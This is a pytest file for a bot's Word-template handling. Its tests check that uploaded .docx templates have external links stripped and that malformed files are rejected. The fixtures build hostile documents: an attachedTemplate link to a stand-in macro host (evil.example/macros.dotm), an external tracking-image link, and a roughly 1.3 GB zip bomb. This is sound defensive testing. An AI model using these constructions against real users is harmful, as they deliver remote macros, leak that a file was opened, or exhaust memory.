"""Word files that are given as the look of minutes, and what is no good for that."""

import io
import zipfile
from collections.abc import Callable

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from bot.adapters.word_files import as_own_docx, is_usable
from bot.core.language import Language
from bot.minutes.document import Document

EMPTY = Document(Language.nl, "x", [], [])
ATTACHED = RELATIONSHIP_TYPE.HYPERLINK.replace("hyperlink", "attachedTemplate")
Made = Callable[[docx.document.Document], object]


def made(change: Made) -> bytes:
    document, content = docx.Document(), io.BytesIO()
    change(document)
    document.save(content)
    return content.getvalue()


def attached(document: docx.document.Document) -> None:
    part = document.part._settings_part
    mark = OxmlElement("w:attachedTemplate")
    mark.set(qn("r:id"), part.relate_to("https://evil.example/macros.dotm", ATTACHED, is_external=True))
    part.element.append(mark)


def linked(document: docx.document.Document) -> None:
    document.part.relate_to("https://evil.example/x.png", RELATIONSHIP_TYPE.IMAGE, is_external=True)


def bomb(document: bytes) -> bytes:
    """With styles that are 1.3 GB of blanks when they are opened."""
    content = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(document)) as there,
        zipfile.ZipFile(content, "w", 8, compresslevel=1) as file,
    ):
        for name in there.namelist():
            if name != "word/styles.xml":
                file.writestr(name, there.read(name))
        with file.open("word/styles.xml", "w", force_zip64=True) as styles:
            for _ in range(130):
                styles.write(b" " * 10_000_000)
    return content.getvalue()


def test_a_link_to_the_template_that_a_file_was_made_on_is_left_out() -> None:
    written = as_own_docx(EMPTY, made(attached))
    with zipfile.ZipFile(io.BytesIO(written)) as file:
        assert b"evil.example" not in b"".join(map(file.read, file.namelist()))
        assert b"attachedTemplate" not in file.read("word/settings.xml")


@pytest.mark.parametrize("content", [made(linked), b"", b"PK no zip", made(linked)[:900]])
def test_what_is_no_template_is_not_usable(content: bytes) -> None:
    assert is_usable(made(lambda document: document.add_paragraph("x")))
    assert not is_usable(content)


def test_a_template_takes_no_more_memory_than_its_process_has() -> None:
    assert not is_usable(bomb(made(lambda _: None)))
